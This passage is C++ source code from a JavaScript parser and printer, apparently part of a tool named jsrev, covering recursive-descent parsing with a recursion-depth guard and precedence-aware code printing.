    throw ParseError(message, cur().line);
  }

  // --- recursion depth guard ----------------------------------------------
  // Every recursion cycle in the grammar passes through parse_statement,
  // parse_assignment, parse_unary, or parse_new; a DepthGuard in each bounds
  // the native stack used on adversarially nested input and converts
  // overflow-in-the-making into a ParseError the caller already handles.

  class DepthGuard {
   public:
    explicit DepthGuard(Parser& p) : p_(p) {
      if (++p_.depth_ > p_.limits_.max_recursion_depth) {
        p_.fail("nesting exceeds ParseLimits::max_recursion_depth (" +
                std::to_string(p_.limits_.max_recursion_depth) + ")");
      }
    }
    ~DepthGuard() { --p_.depth_; }
    DepthGuard(const DepthGuard&) = delete;
    DepthGuard& operator=(const DepthGuard&) = delete;

   private:
    Parser& p_;
  };

  // --- node creation -------------------------------------------------------
  // Every node is stamped with the line of the token current at allocation
  // time. For nodes allocated after some of their tokens were consumed this
  // is a later line; finalize_tree pulls each node back to the minimum line
  // in its subtree, which recovers the construct's first line.

  Node* make(NodeKind kind) {
    Node* n = arena_->make(kind);
    n->line = cur().line;
    return n;
  }

  Node* stamp(Node* n) {
    n->line = cur().line;
    return n;
  }

  Node* make_identifier(std::string name) {
    return stamp(arena_->identifier(std::move(name)));
  }
  Node* make_string(std::string value) {
    return stamp(arena_->string_literal(std::move(value)));
  }
  Node* make_number(double value) {
    return stamp(arena_->number_literal(value));
  }
  Node* make_bool(bool value) { return stamp(arena_->bool_literal(value)); }
  Node* make_null() { return stamp(arena_->null_literal()); }

  // Automatic semicolon insertion: a statement may end with ';', '}', EOF, or
  // a preceding line terminator.
  void consume_semicolon() {
    if (eat_punct(";")) return;
    if (is_punct("}") || at_eof() || cur().newline_before) return;
    fail("expected ';' but found '" + cur().value + "'");
  }

  std::string expect_identifier_name() {
    if (cur().type == TokenType::kIdentifier ||
        (cur().type == TokenType::kKeyword &&
         (cur().value == "get" || cur().value == "set" ||
          cur().value == "static"))) {
      return take().value;
    }
    fail("expected identifier but found '" + cur().value + "'");
  }

  // --- statements ----------------------------------------------------------

  Node* parse_statement() {
    DepthGuard depth(*this);
    if (cur().type == TokenType::kPunctuator) {
      if (cur().value == "{") return parse_block();
      if (cur().value == ";") {
        ++pos_;
        return make(NodeKind::kEmptyStatement);
      }
    }
    if (cur().type == TokenType::kKeyword) {
      const std::string& kw = cur().value;
      if (kw == "var" || kw == "let" || kw == "const") {
        Node* decl = parse_variable_declaration();
        consume_semicolon();
        return decl;
      }
      if (kw == "function") return parse_function(NodeKind::kFunctionDeclaration);
      if (kw == "if") return parse_if();
      if (kw == "for") return parse_for();
      if (kw == "while") return parse_while();
      if (kw == "do") return parse_do_while();
      if (kw == "switch") return parse_switch();
      if (kw == "try") return parse_try();
      if (kw == "return") return parse_return();
      if (kw == "throw") return parse_throw();
      if (kw == "break" || kw == "continue") return parse_break_continue();
      if (kw == "with") return parse_with();
      if (kw == "debugger") {
        ++pos_;
        consume_semicolon();
        return make(NodeKind::kDebuggerStatement);
      }
    }
    // Labeled statement: Identifier ':' Statement
    if (cur().type == TokenType::kIdentifier && ahead().value == ":" &&
        ahead().type == TokenType::kPunctuator) {
      Node* labeled = make(NodeKind::kLabeledStatement);
      labeled->str = take().value;
      ++pos_;  // ':'
      labeled->children.push_back(parse_statement());
      return labeled;
    }
    // Expression statement.
    Node* stmt = make(NodeKind::kExpressionStatement);
    stmt->children.push_back(parse_expression());
    consume_semicolon();
    return stmt;
  }

  Node* parse_block() {
    expect_punct("{");
    Node* block = make(NodeKind::kBlockStatement);
    while (!is_punct("}")) {
      if (at_eof()) fail("unterminated block");
      block->children.push_back(parse_statement());
    }
    ++pos_;  // '}'
    return block;
  }

  Node* parse_variable_declaration(bool no_in = false) {
    Node* decl = make(NodeKind::kVariableDeclaration);
    decl->str = take().value;  // var / let / const
    while (true) {
      Node* d = make(NodeKind::kVariableDeclarator);
      d->children.push_back(make_identifier(expect_identifier_name()));
      if (eat_punct("=")) {
        d->children.push_back(parse_assignment(no_in));
      } else {
        d->children.push_back(nullptr);
      }
      decl->children.push_back(d);
      if (!eat_punct(",")) break;
    }
    return decl;
  }

  Node* parse_function(NodeKind kind) {
    expect_keyword("function");
    Node* fn = make(kind);
    if (kind == NodeKind::kFunctionDeclaration) {
      fn->str = expect_identifier_name();
    } else if (cur().type == TokenType::kIdentifier) {
      fn->str = take().value;  // optional function-expression name
    }
    expect_punct("(");
    while (!is_punct(")")) {
      fn->children.push_back(make_identifier(expect_identifier_name()));
      if (!is_punct(")")) expect_punct(",");
    }
    ++pos_;  // ')'
    fn->children.push_back(parse_block());
    return fn;
  }

  Node* parse_if() {
    expect_keyword("if");
    expect_punct("(");
    Node* n = make(NodeKind::kIfStatement);
    n->children.push_back(parse_expression());
    expect_punct(")");
    n->children.push_back(parse_statement());
    if (eat_keyword("else")) {
      n->children.push_back(parse_statement());
    } else {
      n->children.push_back(nullptr);
    }
    return n;
  }

  Node* parse_for() {
    expect_keyword("for");
    expect_punct("(");

    Node* init = nullptr;
    if (!is_punct(";")) {
      if (is_keyword_tok("var") || is_keyword_tok("let") ||
          is_keyword_tok("const")) {
        init = parse_variable_declaration(/*no_in=*/true);
      } else {
        init = parse_expression(/*no_in=*/true);
      }
      if (is_keyword_tok("in") ||
          (cur().type == TokenType::kIdentifier && cur().value == "of")) {
        const bool is_of = cur().value == "of";
        ++pos_;
        Node* loop = make(NodeKind::kForInStatement);
        if (is_of) loop->flags |= Node::kOfLoop;
        loop->children.push_back(init);
        loop->children.push_back(parse_expression());
        expect_punct(")");
        loop->children.push_back(parse_statement());
        return loop;
      }
    }
    expect_punct(";");
    Node* loop = make(NodeKind::kForStatement);
    loop->children.push_back(init);
    loop->children.push_back(is_punct(";") ? nullptr : parse_expression());
    expect_punct(";");
    loop->children.push_back(is_punct(")") ? nullptr : parse_expression());
    expect_punct(")");
    loop->children.push_back(parse_statement());
    return loop;
  }

  Node* parse_while() {
    expect_keyword("while");
    expect_punct("(");
    Node* n = make(NodeKind::kWhileStatement);
    n->children.push_back(parse_expression());
    expect_punct(")");
    n->children.push_back(parse_statement());
    return n;
  }

  Node* parse_do_while() {
    expect_keyword("do");
    Node* n = make(NodeKind::kDoWhileStatement);
    n->children.push_back(parse_statement());
    expect_keyword("while");
    expect_punct("(");
    n->children.push_back(parse_expression());
    expect_punct(")");
    eat_punct(";");
    return n;
  }

  Node* parse_switch() {
    expect_keyword("switch");
    expect_punct("(");
    Node* sw = make(NodeKind::kSwitchStatement);
    sw->children.push_back(parse_expression());
    expect_punct(")");
    expect_punct("{");
    while (!is_punct("}")) {
      if (at_eof()) fail("unterminated switch");
      Node* cs = make(NodeKind::kSwitchCase);
      if (eat_keyword("case")) {
        cs->children.push_back(parse_expression());
      } else {
        expect_keyword("default");
        cs->children.push_back(nullptr);
      }
      expect_punct(":");
      while (!is_punct("}") && !is_keyword_tok("case") &&
             !is_keyword_tok("default")) {
        cs->children.push_back(parse_statement());
      }
      sw->children.push_back(cs);
    }
    ++pos_;  // '}'
    return sw;
  }

  Node* parse_try() {
    expect_keyword("try");
    Node* n = make(NodeKind::kTryStatement);
    n->children.push_back(parse_block());
    if (eat_keyword("catch")) {
      Node* handler = make(NodeKind::kCatchClause);
      expect_punct("(");
      handler->children.push_back(make_identifier(expect_identifier_name()));
      expect_punct(")");
      handler->children.push_back(parse_block());
      n->children.push_back(handler);
    } else {
      n->children.push_back(nullptr);
    }
    if (eat_keyword("finally")) {
      n->children.push_back(parse_block());
    } else {
      n->children.push_back(nullptr);
    }
    if (n->children[1] == nullptr && n->children[2] == nullptr) {
      fail("try requires catch or finally");
    }
    return n;
  }

  Node* parse_return() {
    expect_keyword("return");
    Node* n = make(NodeKind::kReturnStatement);
    // [no LineTerminator here] restriction.
    if (!is_punct(";") && !is_punct("}") && !at_eof() &&
        !cur().newline_before) {
      n->children.push_back(parse_expression());
    }
    consume_semicolon();
    return n;
  }

  Node* parse_throw() {
    expect_keyword("throw");
    if (cur().newline_before) fail("illegal newline after throw");
    Node* n = make(NodeKind::kThrowStatement);
    n->children.push_back(parse_expression());
    consume_semicolon();
    return n;
  }

  Node* parse_break_continue() {
    const bool is_break = cur().value == "break";
    ++pos_;
    Node* n = make(is_break ? NodeKind::kBreakStatement
                                    : NodeKind::kContinueStatement);
    if (cur().type == TokenType::kIdentifier && !cur().newline_before) {
      n->str = take().value;
    }
    consume_semicolon();
    return n;
  }

  Node* parse_with() {
    expect_keyword("with");
    expect_punct("(");
    Node* n = make(NodeKind::kWithStatement);
    n->children.push_back(parse_expression());
    expect_punct(")");
    n->children.push_back(parse_statement());
    return n;
  }

  // --- expressions ---------------------------------------------------------

  Node* parse_expression(bool no_in = false) {
    Node* first = parse_assignment(no_in);
    if (!is_punct(",")) return first;
    Node* seq = make(NodeKind::kSequenceExpression);
    seq->children.push_back(first);
    while (eat_punct(",")) seq->children.push_back(parse_assignment(no_in));
    return seq;
  }

  bool looks_like_arrow_params() const {
    // At '(' — scan to the matching ')' and check for '=>'.
    if (!is_punct("(")) return false;
    int depth = 0;
    for (std::size_t i = pos_; i < tokens_.size(); ++i) {
      const Token& t = tokens_[i];
      if (t.type == TokenType::kPunctuator) {
        if (t.value == "(") ++depth;
        if (t.value == ")") {
          --depth;
          if (depth == 0) {
            return i + 1 < tokens_.size() &&
                   tokens_[i + 1].type == TokenType::kPunctuator &&
                   tokens_[i + 1].value == "=>";
          }
        }
      }
      if (t.type == TokenType::kEof) return false;
    }
    return false;
  }

  Node* parse_arrow_tail(std::vector<Node*> params) {
    expect_punct("=>");
    Node* fn = make(NodeKind::kArrowFunctionExpression);
    fn->children = std::move(params);
    if (is_punct("{")) {
      fn->children.push_back(parse_block());
    } else {
      // Expression body: wrap in an implicit return for a uniform layout.
      Node* ret = make(NodeKind::kReturnStatement);
      ret->children.push_back(parse_assignment(false));
      Node* body = make(NodeKind::kBlockStatement);
      body->children.push_back(ret);
      fn->children.push_back(body);
    }
    return fn;
  }

  Node* parse_assignment(bool no_in) {
    DepthGuard depth(*this);
    // Arrow functions: `x => ...` or `(a, b) => ...`.
    if (cur().type == TokenType::kIdentifier && ahead().value == "=>" &&
        ahead().type == TokenType::kPunctuator) {
      std::vector<Node*> params{make_identifier(take().value)};
      return parse_arrow_tail(std::move(params));
    }
    if (looks_like_arrow_params()) {
      ++pos_;  // '('
      std::vector<Node*> params;
      while (!is_punct(")")) {
        params.push_back(make_identifier(expect_identifier_name()));
        if (!is_punct(")")) expect_punct(",");
      }
      ++pos_;  // ')'
      return parse_arrow_tail(std::move(params));
    }

    Node* left = parse_conditional(no_in);
    static constexpr std::string_view kAssignOps[] = {
        "=", "+=", "-=", "*=", "/=", "%=", "<<=", ">>=",
        ">>>=", "&=", "|=", "^=", "&&=", "||=", "**="};
    if (cur().type == TokenType::kPunctuator) {
      for (const auto op : kAssignOps) {
        if (cur().value == op) {
          if (left->kind != NodeKind::kIdentifier &&
              left->kind != NodeKind::kMemberExpression) {
            fail("invalid assignment target");
          }
          ++pos_;
          Node* n = make(NodeKind::kAssignmentExpression);
          n->str = std::string(op);
          n->children.push_back(left);
          n->children.push_back(parse_assignment(no_in));
          return n;
        }
      }
    }
    return left;
  }

  Node* parse_conditional(bool no_in) {
    Node* test = parse_binary(0, no_in);
    if (!eat_punct("?")) return test;
    Node* n = make(NodeKind::kConditionalExpression);
    n->children.push_back(test);
    n->children.push_back(parse_assignment(false));
    expect_punct(":");
    n->children.push_back(parse_assignment(no_in));
    return n;
  }

  Node* parse_binary(int min_prec, bool no_in) {
    Node* left = parse_unary();
    while (true) {
      std::string_view op;
      if (cur().type == TokenType::kPunctuator) {
        op = cur().value;
      } else if (is_keyword_tok("instanceof") || is_keyword_tok("in")) {
        op = cur().value;
      } else {
        break;
      }
      const int prec = binary_precedence(op, no_in);
      if (prec == 0 || prec <= min_prec) break;
      const std::string op_str(op);
      ++pos_;
      Node* right = parse_binary(prec, no_in);
      const bool logical = op_str == "&&" || op_str == "||";
      Node* n = make(logical ? NodeKind::kLogicalExpression
                                     : NodeKind::kBinaryExpression);
      n->str = op_str;
      n->children.push_back(left);
      n->children.push_back(right);
      left = n;
    }
    return left;
  }

  Node* parse_unary() {
    DepthGuard depth(*this);
    if (cur().type == TokenType::kPunctuator &&
        (cur().value == "!" || cur().value == "~" || cur().value == "+" ||
         cur().value == "-")) {
      Node* n = make(NodeKind::kUnaryExpression);
      n->str = take().value;
      n->children.push_back(parse_unary());
      return n;
    }
    if (is_keyword_tok("typeof") || is_keyword_tok("void") ||
        is_keyword_tok("delete")) {
      Node* n = make(NodeKind::kUnaryExpression);
      n->str = take().value;
      n->children.push_back(parse_unary());
      return n;
    }
    if (is_punct("++") || is_punct("--")) {
      Node* n = make(NodeKind::kUpdateExpression);
      n->flags |= Node::kPrefix;
      n->str = take().value;
      n->children.push_back(parse_unary());
      return n;
    }
    Node* expr = parse_postfix();
    return expr;
  }

  Node* parse_postfix() {
    Node* expr = parse_call_member(parse_primary());
    if ((is_punct("++") || is_punct("--")) && !cur().newline_before) {
      Node* n = make(NodeKind::kUpdateExpression);
      n->str = take().value;
      n->children.push_back(expr);
      return n;
    }
    return expr;
  }

  Node* parse_call_member(Node* expr) {
    while (true) {
      if (eat_punct(".")) {
        Node* m = make(NodeKind::kMemberExpression);
        m->children.push_back(expr);
        // Property names may be keywords (obj.in, obj.delete, ...).
        if (cur().type == TokenType::kIdentifier ||
            cur().type == TokenType::kKeyword ||
            cur().type == TokenType::kBooleanLiteral ||
            cur().type == TokenType::kNullLiteral) {
          m->children.push_back(make_identifier(take().value));
        } else {
          fail("expected property name");
        }
        expr = m;
      } else if (eat_punct("[")) {
        Node* m = make(NodeKind::kMemberExpression);
        m->flags |= Node::kComputed;
        m->children.push_back(expr);
        m->children.push_back(parse_expression());
        expect_punct("]");
        expr = m;
      } else if (is_punct("(")) {
        Node* call = make(NodeKind::kCallExpression);
        call->children.push_back(expr);
        parse_arguments(call);
        expr = call;
      } else {
        return expr;
      }
    }
  }

  void parse_arguments(Node* call) {
    expect_punct("(");
    while (!is_punct(")")) {
      call->children.push_back(parse_assignment(false));
      if (!is_punct(")")) expect_punct(",");
    }
    ++pos_;  // ')'
  }

  Node* parse_new() {
    DepthGuard depth(*this);
    expect_keyword("new");
    Node* n = make(NodeKind::kNewExpression);
    // `new new X()()` and member chains on the callee are allowed, but a call
    // ends the callee part.
    Node* callee = is_keyword_tok("new") ? parse_new() : parse_primary();
    while (true) {
      if (eat_punct(".")) {
        Node* m = make(NodeKind::kMemberExpression);
        m->children.push_back(callee);
        m->children.push_back(make_identifier(expect_identifier_name()));
        callee = m;
      } else if (eat_punct("[")) {
        Node* m = make(NodeKind::kMemberExpression);
        m->flags |= Node::kComputed;
        m->children.push_back(callee);
        m->children.push_back(parse_expression());
        expect_punct("]");
        callee = m;
      } else {
        break;
      }
    }
    n->children.push_back(callee);
    if (is_punct("(")) parse_arguments(n);
    return n;
  }

  Node* parse_primary() {
    switch (cur().type) {
      case TokenType::kNumericLiteral:
        return make_number(take().numeric_value);
      case TokenType::kStringLiteral:
      case TokenType::kTemplateString:
        return make_string(take().string_value);
      case TokenType::kBooleanLiteral:
        return make_bool(take().value == "true");
      case TokenType::kNullLiteral:
        take();
        return make_null();
      case TokenType::kRegexLiteral: {
        Node* n = make(NodeKind::kLiteral);
        n->lit = LiteralType::kRegex;
        n->str = take().value;
        return n;
      }
      case TokenType::kIdentifier:
        return make_identifier(take().value);
      case TokenType::kKeyword: {
        const std::string& kw = cur().value;
        if (kw == "this") {
          ++pos_;
          return make(NodeKind::kThisExpression);
        }
        if (kw == "function") return parse_function(NodeKind::kFunctionExpression);
        if (kw == "new") return parse_new();
        if (kw == "get" || kw == "set" || kw == "static") {
          // Contextual keywords usable as plain identifiers.
          return make_identifier(take().value);
        }
        fail("unexpected keyword '" + kw + "'");
      }
      case TokenType::kPunctuator: {
        if (cur().value == "(") {
          ++pos_;
          Node* e = parse_expression();
          expect_punct(")");
          return e;
        }
        if (cur().value == "[") return parse_array_literal();
        if (cur().value == "{") return parse_object_literal();
        fail("unexpected token '" + cur().value + "'");
      }
      default:
        fail("unexpected end of input");
    }
  }

  Node* parse_array_literal() {
    expect_punct("[");
    Node* arr = make(NodeKind::kArrayExpression);
    while (!is_punct("]")) {
      if (is_punct(",")) {
        ++pos_;
        arr->children.push_back(nullptr);  // elision
        continue;
      }
      arr->children.push_back(parse_assignment(false));
      if (!is_punct("]")) expect_punct(",");
    }
    ++pos_;  // ']'
    return arr;
  }

  Node* parse_object_literal() {
    expect_punct("{");
    Node* obj = make(NodeKind::kObjectExpression);
    while (!is_punct("}")) {
      Node* prop = make(NodeKind::kProperty);
      // Key: identifier, keyword, string, number, or computed [expr].
      if (eat_punct("[")) {
        prop->flags |= Node::kComputed;
        prop->children.push_back(parse_assignment(false));
        expect_punct("]");
      } else if (cur().type == TokenType::kIdentifier ||
                 cur().type == TokenType::kKeyword ||
                 cur().type == TokenType::kBooleanLiteral ||
                 cur().type == TokenType::kNullLiteral) {
        prop->children.push_back(make_identifier(take().value));
      } else if (cur().type == TokenType::kStringLiteral) {
        prop->children.push_back(make_string(take().string_value));
      } else if (cur().type == TokenType::kNumericLiteral) {
        prop->children.push_back(make_number(take().numeric_value));
      } else {
        fail("expected property key");
      }
      expect_punct(":");
      prop->children.push_back(parse_assignment(false));
      obj->children.push_back(prop);
      if (!is_punct("}")) expect_punct(",");
    }
    ++pos_;  // '}'
    return obj;
  }

  std::vector<Token> tokens_;
  ParseLimits limits_;
  std::size_t pos_ = 0;
  std::size_t depth_ = 0;
  std::size_t source_size_ = 0;
  AstArena* arena_ = nullptr;
};

}  // namespace

namespace {
// The parse counter lives in the process-wide obs registry (the bespoke
// atomic it replaces is gone); parse_invocations() below reads the same
// counter, so existing callers keep working.
obs::Counter* parse_counter() {
  static obs::Counter* c = obs::metrics().counter("js.parse.invocations");
  return c;
}
}  // namespace

Ast parse(std::string_view source, const ParseLimits& limits) {
  parse_counter()->add();
  obs::Span span("js.parse", "frontend");
  return Parser(source, limits).run();
}

Ast parse(std::string_view source) { return parse(source, ParseLimits{}); }

std::uint64_t parse_invocations() noexcept {
  return parse_counter()->value();
}

bool parses_ok(std::string_view source) noexcept {
  return parses_ok(source, ParseLimits{});
}

bool parses_ok(std::string_view source, const ParseLimits& limits) noexcept {
  try {
    parse(source, limits);
    return true;
  } catch (const std::exception&) {
    return false;
  }
}

}  // namespace jsrev::js
