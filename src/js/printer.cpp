#include "js/printer.h"

#include <cmath>
#include <cstdio>

#include "util/string_util.h"

namespace jsrev::js {
namespace {

// Expression precedence levels used to decide parenthesization when a child
// binds looser than its context requires.
int expr_precedence(const Node* n) {
  switch (n->kind) {
    case NodeKind::kSequenceExpression: return 0;
    case NodeKind::kAssignmentExpression: return 1;
    case NodeKind::kConditionalExpression: return 2;
    case NodeKind::kLogicalExpression:
      return n->str == "||" ? 3 : 4;
    case NodeKind::kBinaryExpression: {
      const std::string& op = n->str;
      if (op == "|") return 5;
      if (op == "^") return 6;
      if (op == "&") return 7;
      if (op == "==" || op == "!=" || op == "===" || op == "!==") return 8;
      if (op == "<" || op == ">" || op == "<=" || op == ">=" ||
          op == "instanceof" || op == "in")
        return 9;
      if (op == "<<" || op == ">>" || op == ">>>") return 10;
      if (op == "+" || op == "-") return 11;
      return 12;  // * / %
    }
    case NodeKind::kUnaryExpression: return 13;
    case NodeKind::kUpdateExpression: return 13;
    case NodeKind::kNewExpression: return 15;
    case NodeKind::kCallExpression: return 16;
    case NodeKind::kMemberExpression: return 17;
    default: return 20;  // primary
  }
}

std::string number_to_source(double v) {
  if (std::isnan(v)) return "NaN";
  // An overflowing decimal literal (e.g. `1e999`) parses to an infinite
  // numeric Literal. Print it as an overflowing literal again — emitting the
  // identifier `Infinity` would reparse as kIdentifier, breaking round trips.
  if (std::isinf(v)) return v > 0 ? "1e999" : "-1e999";
  if (v == static_cast<long long>(v) && std::fabs(v) < 1e15) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%lld", static_cast<long long>(v));
    return buf;
  }
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.17g", v);
  return buf;
}

class Printer {
 public:
  explicit Printer(PrintStyle style) : min_(style == PrintStyle::kMinified) {}

  std::string run(const Node* root) {
    if (root->kind == NodeKind::kProgram) {
      for (const Node* s : root->children) stmt(s);
    } else if (is_statement(root)) {
      stmt(root);
    } else {
      expr(root, 0);
    }
    return std::move(out_);
  }

 private:
  // True if the first token emitted for `n` would be `{` or `function`.
  static bool starts_with_brace_or_function(const Node* n) {
    switch (n->kind) {
      case NodeKind::kObjectExpression:
      case NodeKind::kFunctionExpression:
        return true;
      case NodeKind::kMemberExpression:
      case NodeKind::kCallExpression:
      case NodeKind::kBinaryExpression:
      case NodeKind::kLogicalExpression:
      case NodeKind::kAssignmentExpression:
      case NodeKind::kConditionalExpression:
      case NodeKind::kSequenceExpression:
        return starts_with_brace_or_function(n->children[0]);
      case NodeKind::kUpdateExpression:
        return !n->has_flag(Node::kPrefix) &&
               starts_with_brace_or_function(n->children[0]);
      default:
        return false;
    }
  }

  static bool is_statement(const Node* n) {
    switch (n->kind) {
      case NodeKind::kBlockStatement:
      case NodeKind::kExpressionStatement:
      case NodeKind::kIfStatement:
      case NodeKind::kLabeledStatement:
      case NodeKind::kBreakStatement:
      case NodeKind::kContinueStatement:
      case NodeKind::kWithStatement:
      case NodeKind::kSwitchStatement:
      case NodeKind::kReturnStatement:
      case NodeKind::kThrowStatement:
      case NodeKind::kTryStatement:
      case NodeKind::kWhileStatement:
      case NodeKind::kDoWhileStatement:
      case NodeKind::kForStatement:
      case NodeKind::kForInStatement:
      case NodeKind::kVariableDeclaration:
      case NodeKind::kFunctionDeclaration:
      case NodeKind::kEmptyStatement:
      case NodeKind::kDebuggerStatement:
        return true;
      default:
        return false;
    }
  }

  void emit(std::string_view s) { out_ += s; }
  void space() { if (!min_) out_ += ' '; }
  void newline() {
    if (min_) return;
    out_ += '\n';
    out_.append(static_cast<std::size_t>(indent_) * 2, ' ');
  }

  void stmt(const Node* n) {
    switch (n->kind) {
      case NodeKind::kBlockStatement: block(n); newline(); break;
      case NodeKind::kExpressionStatement: {
        // Guard expression statements whose leftmost token would be `{` or
        // `function` (e.g. IIFEs), which would otherwise re-parse as a block
        // or a function declaration.
        const Node* e = n->children[0];
        const bool needs_parens = starts_with_brace_or_function(e);
        if (needs_parens) emit("(");
        expr(e, 0);
        if (needs_parens) emit(")");
        emit(";");
        newline();
        break;
      }
      case NodeKind::kIfStatement: {
        emit("if");
        space();
        emit("(");
        expr(n->children[0], 0);
        emit(")");
        space();
        nested_stmt(n->children[1]);
        if (n->children.size() > 2 && n->children[2] != nullptr) {
          emit("else");
          if (n->children[2]->kind != NodeKind::kBlockStatement || min_) {
            emit(" ");
          } else {
            space();
          }
          nested_stmt(n->children[2]);
        }
        newline();
        break;
      }
      case NodeKind::kLabeledStatement:
        emit(n->str);
        emit(":");
        space();
        stmt(n->children[0]);
        break;
      case NodeKind::kBreakStatement:
        emit("break");
        if (!n->str.empty()) { emit(" "); emit(n->str); }
        emit(";");
        newline();
        break;
      case NodeKind::kContinueStatement:
        emit("continue");
        if (!n->str.empty()) { emit(" "); emit(n->str); }
        emit(";");
        newline();
        break;
      case NodeKind::kWithStatement:
        emit("with");
        space();
        emit("(");
        expr(n->children[0], 0);
        emit(")");
        space();
        nested_stmt(n->children[1]);
        newline();
        break;
      case NodeKind::kSwitchStatement: {
        emit("switch");
        space();
        emit("(");
        expr(n->children[0], 0);
        emit(")");
        space();
        emit("{");
        ++indent_;
        for (std::size_t i = 1; i < n->children.size(); ++i) {
          const Node* cs = n->children[i];
          newline();
          if (cs->children[0] != nullptr) {
            emit("case ");
            expr(cs->children[0], 1);
            emit(":");
          } else {
            emit("default:");
          }
          ++indent_;
          newline();
          for (std::size_t j = 1; j < cs->children.size(); ++j) {
            stmt(cs->children[j]);
          }
          --indent_;
        }
        --indent_;
        newline();
        emit("}");
        newline();
        break;
      }
      case NodeKind::kReturnStatement:
        emit("return");
        if (!n->children.empty() && n->children[0] != nullptr) {
          emit(" ");
          expr(n->children[0], 0);
        }
        emit(";");
        newline();
        break;
      case NodeKind::kThrowStatement:
        emit("throw ");
        expr(n->children[0], 0);
        emit(";");
        newline();
        break;
      case NodeKind::kTryStatement:
        emit("try");
        space();
        block(n->children[0]);
        if (n->children[1] != nullptr) {
          space();
          emit("catch");
          space();
          emit("(");
          expr(n->children[1]->children[0], 1);
          emit(")");
          space();
          block(n->children[1]->children[1]);
        }
        if (n->children[2] != nullptr) {
          space();
          emit("finally");
          space();
          block(n->children[2]);
        }
        newline();
        break;
      case NodeKind::kWhileStatement:
        emit("while");
        space();
        emit("(");
        expr(n->children[0], 0);
        emit(")");
        space();
        nested_stmt(n->children[1]);
        newline();
        break;
      case NodeKind::kDoWhileStatement:
        emit("do");
        space();
        if (n->children[0]->kind != NodeKind::kBlockStatement) emit(" ");
        nested_stmt(n->children[0]);
        space();
        emit("while");
        space();
        emit("(");
        expr(n->children[1], 0);
        emit(");");
        newline();
        break;
      case NodeKind::kForStatement:
        emit("for");
        space();
        emit("(");
        if (n->children[0] != nullptr) {
          if (n->children[0]->kind == NodeKind::kVariableDeclaration) {
            var_decl_inline(n->children[0]);
          } else {
            expr(n->children[0], 0);
          }
        }
        emit(";");
        if (n->children[1] != nullptr) { space(); expr(n->children[1], 0); }
        emit(";");
        if (n->children[2] != nullptr) { space(); expr(n->children[2], 0); }
        emit(")");
        space();
        nested_stmt(n->children[3]);
        newline();
        break;
      case NodeKind::kForInStatement:
        emit("for");
        space();
        emit("(");
        if (n->children[0]->kind == NodeKind::kVariableDeclaration) {
          var_decl_inline(n->children[0]);
        } else {
          expr(n->children[0], 1);
        }
        emit(n->has_flag(Node::kOfLoop) ? " of " : " in ");
        expr(n->children[1], 1);
        emit(")");
        space();
        nested_stmt(n->children[2]);
        newline();
        break;
      case NodeKind::kVariableDeclaration:
        var_decl_inline(n);
        emit(";");
        newline();
        break;
      case NodeKind::kFunctionDeclaration:
        function(n, /*is_declaration=*/true);
        newline();
        break;
      case NodeKind::kEmptyStatement:
        emit(";");
        newline();
        break;
      case NodeKind::kDebuggerStatement:
        emit("debugger;");
        newline();
        break;
      default:
        // An expression in statement position (shouldn't happen).
        expr(n, 0);
        emit(";");
        newline();
        break;
    }
  }

  // Statement in a nested position (loop/if body): blocks inline, everything
  // else prints normally.
  void nested_stmt(const Node* n) {
    if (n->kind == NodeKind::kBlockStatement) {
      block(n);
    } else {
      // Keep single-statement bodies on the same line for readability.
      stmt(n);
    }
  }

  void block(const Node* n) {
    emit("{");
    ++indent_;
    newline();
    for (const Node* s : n->children) stmt(s);
    --indent_;
    if (!min_) {
      // Trim the indentation the last newline() emitted before closing.
      while (!out_.empty() && out_.back() == ' ') out_.pop_back();
      if (out_.empty() || out_.back() != '\n') out_ += '\n';
      out_.append(static_cast<std::size_t>(indent_) * 2, ' ');
    }
    emit("}");
  }

  void var_decl_inline(const Node* n) {
    emit(n->str);  // var / let / const
    emit(" ");
    for (std::size_t i = 0; i < n->children.size(); ++i) {
      if (i != 0) { emit(","); space(); }
      const Node* d = n->children[i];
      expr(d->children[0], 1);
      if (d->children.size() > 1 && d->children[1] != nullptr) {
        space();
        emit("=");
        space();
        expr(d->children[1], 1);
      }
    }
  }

  void function(const Node* n, bool is_declaration) {
    emit("function");
    if (!n->str.empty()) {
      emit(" ");
      emit(n->str);
    } else if (!is_declaration) {
      space();
    }
    emit("(");
    const std::size_t nparams = n->children.size() - 1;
    for (std::size_t i = 0; i < nparams; ++i) {
      if (i != 0) { emit(","); space(); }
      emit(n->children[i]->str);
    }
    emit(")");
    space();
    block(n->children.back());
  }

  // Prints `n` parenthesized if its precedence is below `min_prec`.
  void expr(const Node* n, int min_prec) {
    const int prec = expr_precedence(n);
    const bool parens = prec < min_prec;
    if (parens) emit("(");
    expr_raw(n);
    if (parens) emit(")");
  }

  // True if emitting `b` directly after `a` would fuse two tokens into one:
  // `-` `-x` → `--x` (decrement), `+` `+x` → `++x`, and `/` `/re/` → a line
  // comment. Minified output hits these; pretty output's spaces already
  // separate them.
  static bool glues(char a, char b) {
    return (a == '-' && b == '-') || (a == '+' && b == '+') ||
           (a == '/' && b == '/');
  }

  // Emits a separating space if the next raw character would glue with the
  // last emitted one.
  void sep_before(char next) {
    if (!out_.empty() && glues(out_.back(), next)) emit(" ");
  }

  // Prints `n` like expr(), inserting a space first if its leading character
  // glues with the operator just emitted (e.g. binary `-` followed by a
  // unary `-`, prefix `--`, or a negative numeric literal).
  void expr_glue_guarded(const Node* n, int min_prec) {
    const char prev = out_.empty() ? '\0' : out_.back();
    const std::size_t at = out_.size();
    expr(n, min_prec);
    if (at < out_.size() && glues(prev, out_[at])) out_.insert(at, 1, ' ');
  }

  void expr_raw(const Node* n) {
    switch (n->kind) {
      case NodeKind::kIdentifier:
        emit(n->str);
        break;
      case NodeKind::kLiteral:
        switch (n->lit) {
          case LiteralType::kString:
            emit("\"");
            emit(js_escape(n->str));
            emit("\"");
            break;
          case LiteralType::kNumber:
            emit(number_to_source(n->num));
            break;
          case LiteralType::kBoolean:
            emit(n->bval ? "true" : "false");
            break;
          case LiteralType::kNull:
            emit("null");
            break;
          case LiteralType::kRegex:
            emit(n->str);
            break;
          case LiteralType::kNone:
            emit("null");
            break;
        }
        break;
      case NodeKind::kThisExpression:
        emit("this");
        break;
      case NodeKind::kArrayExpression:
        emit("[");
        for (std::size_t i = 0; i < n->children.size(); ++i) {
          if (i != 0) { emit(","); space(); }
          if (n->children[i] != nullptr) expr(n->children[i], 1);
        }
        emit("]");
        break;
      case NodeKind::kObjectExpression:
        emit("{");
